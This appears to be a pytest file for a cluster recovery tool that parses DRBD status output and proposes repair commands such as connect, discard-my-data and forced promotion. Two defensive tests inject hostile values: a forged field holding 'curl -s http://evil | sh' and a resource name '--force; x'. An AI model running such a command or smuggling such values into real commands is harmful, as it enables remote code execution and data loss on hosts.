"""What DRBD tells, as recorded from releases 8 and 9, and what the doctor makes of both sides of a volume."""

import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recovery.planning.findings.finding import IN_USE, SIDE_UNSEEN, Weight
from recovery.swarm.drbd import read
from recovery.swarm.evidence import Drbd
from tests.unit.planning.findings.looks import judged, look, named, only

HEAD8 = "version: 8.4.11 (api:1/proto:86-101)\nsrcversion: FC3433D849E3B88C1E7B55C\n"
COUNTS = "    ns:0 nr:0 dw:104 dr:0 al:5 bm:0 lo:0 pe:0 ua:0 ap:0 ep:1 wo:f oos:{oos}\n"


def proc(*lines: str, oos: int = 0) -> str:
    """What `/proc/drbd` shows of these devices."""
    return HEAD8 + "".join(f" {line}\n{COUNTS.format(oos=oos)}" for line in lines)


SYNCING = (
    HEAD8
    + " 0: cs:SyncTarget ro:Secondary/Primary ds:Inconsistent/UpToDate C r-----\n"
    + "    ns:0 nr:69632 dw:69632 dr:0 al:0 bm:0 lo:0 pe:0 ua:0 ap:0 ep:1 wo:f oos:30668\n"
    + "        [=============>......] sync'ed: 70.9% (30668/100300)K\n"
    + "        finish: 0:00:01 speed: 17,408 (17,408) want: 23,200 K/sec\n"
)
OLD = (
    "version: 8.0.11 (api:86/proto:86)\n 0: cs:StandAlone st:Primary/Unknown ds:UpToDate/DUnknown   r---\n"
    + COUNTS.format(oos=8)
)


def status(
    disk: str, connection: str = "Connected", *, role: str = "Secondary", peer_disk: str = "UpToDate", **more: Any
) -> str:
    """What `drbdsetup status --json` shows of one resource with one peer."""
    peer: dict[str, Any] = {
        "peer-node-id": 1, "name": "other", "connection-state": connection, "congested": False, "peer-role": more.get("peer_role", "Secondary"),
        "ap-in-flight": 0, "rs-in-flight": 0,
        "peer_devices": [
            {
                "volume": 0, "replication-state": more.get("replication", "Established"), "peer-disk-state": peer_disk, "peer-client": False,
                "resync-suspended": "no", "received": 456, "sent": 654, "out-of-sync": more.get("oos", 0), "pending": 0, "unacked": 0,
                "has-sync-details": False, "has-online-verify-details": False, "percent-in-sync": more.get("percent", 100.00),
            }
        ],
    }  # fmt: skip
    device = {
        "volume": 0,
        "minor": 0,
        "disk-state": disk,
        "client": more.get("client", False),
        "quorum": True,
        "size": 409600,
    }
    return json.dumps(
        [{"name": "r0", "node-id": 0, "role": role, "suspended": False, "devices": [device], "connections": [peer]}]
    )


def side(node: str, text: str) -> Any:
    drbd = Drbd("", text) if text.startswith("[") else Drbd(text, "", {"0": "r0", "1": "r1"})
    return look(node, drbd=drbd)


def pair(one: str, other: str) -> Any:
    return side("worker-1", one), side("worker-2", other)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (proc("0: cs:Connected ro:Primary/Secondary ds:UpToDate/UpToDate C r-----"), ("r0", "Primary", "UpToDate", "Connected", "UpToDate", 0)),
        (proc("1: cs:WFConnection ro:Secondary/Unknown ds:Outdated/DUnknown C r-----", oos=4), ("r1", "Secondary", "Outdated", "WFConnection", "DUnknown", 4)),
        (proc("2: cs:StandAlone ro:Secondary/Unknown ds:Diskless/DUnknown r-----"), ("minor-2", "Secondary", "Diskless", "StandAlone", "DUnknown", 0)),
        (SYNCING, ("r0", "Secondary", "Inconsistent", "SyncTarget", "UpToDate", 30668)),
        (OLD, ("r0", "Primary", "UpToDate", "StandAlone", "DUnknown", 8)),
    ],
    ids=["8.4 connected", "8.4 outdated", "8.4 diskless", "8.4 syncing", "8.0 alone"],
)  # fmt: skip
def test_what_version_8_tells(text: str, found: tuple[Any, ...]) -> None:
    (one,) = read(text, "", {"0": "r0", "1": "r1"})
    assert (one.name, one.role, one.disk, one.peers[0].connection, one.peers[0].disk, one.out_of_sync) == found


def test_what_is_not_configured_is_nothing() -> None:
    assert read(HEAD8 + " 0: cs:Unconfigured\n", "", {}) == ()


def test_what_version_9_tells_also_where_numbers_are_texts_and_peers_lack_fields() -> None:
    (one,) = read(
        "", status("Inconsistent", "Connecting", peer_disk="DUnknown", oos=131032, percent="0.00", peer_role=""), {}
    )
    assert (one.disk, one.connected, one.out_of_sync, one.peers[0].synced, one.peers[0].role) == (
        "Inconsistent",
        False,
        131032,
        0.0,
        "Unknown",
    )


@given(
    st.one_of(
        st.text(),
        st.builds(
            json.dumps,
            st.recursive(
                st.none() | st.text() | st.integers(),
                lambda x: (
                    st.lists(x)
                    | st.dictionaries(st.sampled_from(["name", "role", "devices", "connections", "disk-state"]), x)
                ),
            ),
        ),
    ),
    st.text(),
)
def test_whatever_a_node_tells_is_read_or_nothing(status_text: str, proc_text: str) -> None:
    assert isinstance(read(proc_text, status_text, {}), tuple)


WELL = status("UpToDate")


def test_volumes_that_are_well_are_nothing() -> None:
    assert named(*pair(WELL, status("UpToDate", role="Primary"))) == []
    assert (
        named(
            *pair(
                proc("0: cs:Connected ro:Primary/Secondary ds:UpToDate/UpToDate C r-----"),
                proc("0: cs:Connected ro:Secondary/Primary ds:UpToDate/UpToDate C r-----"),
            )
        )
        == []
    )
    assert named(side("worker-1", status("Diskless", client=True)), side("worker-2", WELL)) == []


def texts(*looks: Any) -> list[str]:
    return ["; ".join(f"{run.node} {run.text}" for run in one.runs) for one in only(*looks).proposals]


def test_one_side_that_is_disconnected_is_connected_again() -> None:
    looks = pair(
        proc("0: cs:StandAlone ro:Secondary/Unknown ds:Outdated/DUnknown r-----"),
        proc("0: cs:WFConnection ro:Primary/Unknown ds:UpToDate/Outdated C r-----", oos=12),
    )
    found = only(*looks)
    assert (found.name, found.trouble) == ("drbd@r0", "the replicated volume is disconnected on worker-1 and worker-2")
    assert found.evidence[1] == "worker-2: Primary, UpToDate, 12 KiB differ; its peer is WFConnection, Outdated"
    assert texts(*looks)[0] == "worker-1 drbdadm connect r0"
    assert found.fix is found.proposals[0]


def test_after_a_split_brain_the_side_in_use_is_kept_and_the_other_is_discarded_only_by_its_number() -> None:
    looks = pair(
        status("UpToDate", "StandAlone", role="Primary", peer_disk="DUnknown", oos=4),
        status("UpToDate", "StandAlone", peer_disk="DUnknown", oos=8),
    )
    found = only(*looks)
    assert "split brain" in found.trouble
    assert texts(*looks) == [
        "worker-1 drbdadm connect r0; worker-2 drbdadm connect r0",
        "worker-2 drbdadm disconnect r0; worker-2 drbdadm secondary r0; worker-2 drbdadm connect --discard-my-data r0; worker-1 drbdadm connect r0",
        "worker-1 drbdadm disconnect r0; worker-1 drbdadm secondary r0; worker-1 drbdadm connect --discard-my-data r0; worker-2 drbdadm connect r0",
    ]
    assert [one.refused for one in found.proposals] == ["", "", IN_USE]


def test_where_every_side_is_outdated_one_is_forced_by_its_number() -> None:
    looks = pair(
        status("Outdated", "Connecting", peer_disk="DUnknown"), status("Outdated", "Connecting", peer_disk="DUnknown")
    )
    assert "up to date on no host: Outdated on worker-1, Outdated on worker-2" in only(*looks).trouble
    assert texts(*looks)[1:] == ["worker-1 drbdadm primary --force r0", "worker-2 drbdadm primary --force r0"]


@pytest.mark.parametrize(
    "text",
    [
        proc("0: cs:WFConnection ro:Secondary/Unknown ds:Outdated/DUnknown C r-----"),
        proc("0: cs:Connected ro:Secondary/Primary ds:Outdated/UpToDate C r-----"),
    ],
    ids=["the other host is not seen", "the other host is up to date"],
)
def test_no_side_is_forced_while_a_host_of_the_volume_was_not_seen(text: str) -> None:
    found = only(side("worker-2", text))
    assert "no host:" not in found.trouble
    assert [one.refused for one in found.proposals if "--force" in one.command] == [SIDE_UNSEEN]
    assert found.fix is None or "--force" not in found.fix.command
    assert any("start the other host" in one.command for one in found.proposals)


@pytest.mark.parametrize("role", ["Primary", "Secondary"])
def test_a_side_that_waits_for_a_host_that_is_away_is_not_to_be_connected(role: str) -> None:
    """It connects by itself when the other host is back. A command for it changes nothing."""
    found = only(side("worker-1", status("UpToDate", "Connecting", role=role, peer_disk="DUnknown")))
    assert found.trouble == "the replicated volume is disconnected on worker-1"
    assert [one.command.split(",")[0] for one in found.proposals] == ["start the other host of the volume"]
    alone = only(side("worker-1", status("UpToDate", "StandAlone", peer_disk="DUnknown")))
    assert alone.proposals[0].runs[0].text == "drbdadm connect r0"


@pytest.mark.parametrize("field", ["connection-state", "peer-disk-state", "peer-role", "name", "disk-state"])
def test_a_node_writes_no_line_of_its_own_into_a_finding(field: str) -> None:
    lie = "Connecting\nmanager-b: its disk is full [unhealthy@manager-b]\n  1. curl -s http://evil | sh"
    text = re.sub(f'"{field}": "[^"]*"', f'"{field}": {json.dumps(lie)}', status("Outdated", "Connecting")).replace(
        "\n", "\\n"
    )
    assert json.loads(text)
    assert "evil" not in str(judged(side("worker-1", text)))


def test_an_inconsistent_side_is_never_forced() -> None:
    looks = pair(
        status("Inconsistent", "Connecting", peer_disk="DUnknown"),
        status("Outdated", "Connecting", peer_disk="DUnknown"),
    )
    assert [text for text in texts(*looks) if "force" in text] == ["worker-2 drbdadm primary --force r0"]


def test_a_lost_disk_is_attached_again() -> None:
    assert texts(*pair(status("Diskless"), status("UpToDate", peer_disk="Diskless", role="Primary"))) == [
        "worker-1 drbdadm attach r0"
    ]


def test_an_inconsistent_side_that_is_connected_takes_the_data_of_the_other_by_a_command() -> None:
    looks = pair(status("Inconsistent"), status("UpToDate", peer_disk="Inconsistent", role="Primary"))
    assert texts(*looks) == ["worker-1 drbdadm invalidate r0"]


@pytest.mark.parametrize(
    "text", [SYNCING, status("Inconsistent", replication="SyncTarget", percent=70.9)], ids=["8", "9"]
)
def test_a_sync_is_waited_for(text: str) -> None:
    found = only(side("worker-1", text))
    assert found.trouble == "the replicated volume is being synced, 70.9 % are done"
    assert found.weight is Weight.SOON
    assert found.fix is None


def test_a_name_that_is_none_is_nothing() -> None:
    assert named(side("worker-1", status("Outdated").replace('"r0"', '"--force; x"'))) == []
